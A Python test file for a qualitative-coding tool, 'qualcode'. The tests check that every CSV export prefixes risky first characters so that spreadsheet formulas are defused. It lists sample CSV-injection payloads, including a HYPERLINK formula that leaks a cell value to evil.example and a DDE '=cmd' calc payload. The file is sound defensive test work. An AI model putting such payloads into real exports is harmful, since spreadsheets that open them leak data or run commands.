"""One CSV writer for every CSV qualcode writes, neutralising formulas (OWASP CSV injection):
the saturation log (web and `qualcode saturation --log`), codings, the audit trail."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from qualcode.cli import main
from qualcode.coding.codes import create_code
from qualcode.coding.codings import add_coding
from qualcode.coding.status import set_status
from qualcode.corpus.transcripts import add_transcript
from qualcode.export.csv_files import csv_bytes
from qualcode.ingest.files import read_document
from qualcode.store.project import Project

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1)", "+1+2", "-3+4",
           "\tTAB", "\rCR"]


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_every_dangerous_first_character_is_neutralised():
    data = csv_bytes([{"a": v, "n": -5} for v in HOSTILE], ["a", "n"])
    rows = _rows(data)
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE]
    assert all(r[0].startswith("'") for r in rows[1:])
    assert all(r[1] == "-5" for r in rows[1:])  # numbers stay numbers
    assert data.startswith(b"\xef\xbb\xbf")


def _project(path) -> None:
    project = Project(path)
    text = "Interviewer: Hoe?\nP1: Het begon met de huur die steeg.\n"
    t = add_transcript(project, read_document("a.txt", text.encode()), HOSTILE[0])
    code = create_code(project, "@SUM(1)")
    add_coding(project, t.id, code.id, 23, 50, coder="=cmd|' /C calc'!A0")
    set_status(project, [t.id], "coded")
    project.close()


def test_saturation_log_cli_and_web_neutralise_formulas(tmp_path):
    from qualcode.analysis.saturation import saturation_log
    from qualcode.analysis.saturation_report import saturation_report

    db = tmp_path / "p.sqlite"
    _project(db)
    log = tmp_path / "log.csv"
    assert main(["--db", str(db), "saturation", "--base", "1", "--run", "1",
                 "--log", str(log)]) == 0
    rows = _rows(log.read_bytes())
    assert rows[1][1].startswith("'=HYPERLINK") and rows[1][3] == "'@SUM(1)"
    project = Project(db)
    web = csv_bytes(saturation_log(saturation_report(project, base=1, run=1).result))
    project.close()
    assert _rows(web)[1][1].startswith("'=HYPERLINK")


def test_codings_csv_neutralises(tmp_path):
    db = tmp_path / "p.sqlite"
    _project(db)
    out = tmp_path / "codings.csv"
    assert main(["--db", str(db), "export", str(out)]) == 0
    text = out.read_bytes().decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "'@SUM(1)" in text and "'=cmd" in text
    assert not re.search(r'(^|,)"?[=@+]', text.replace("'=", "").replace("'@", ""), re.M)


def test_no_other_csv_writer_in_the_code():
    """Every CSV goes through qualcode/export/csv_files.py."""
    offenders = []
    for path in (ROOT / "qualcode").rglob("*.py"):
        if path.name == "csv_files.py":
            continue
        source = path.read_text(encoding="utf-8")
        if re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", source):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
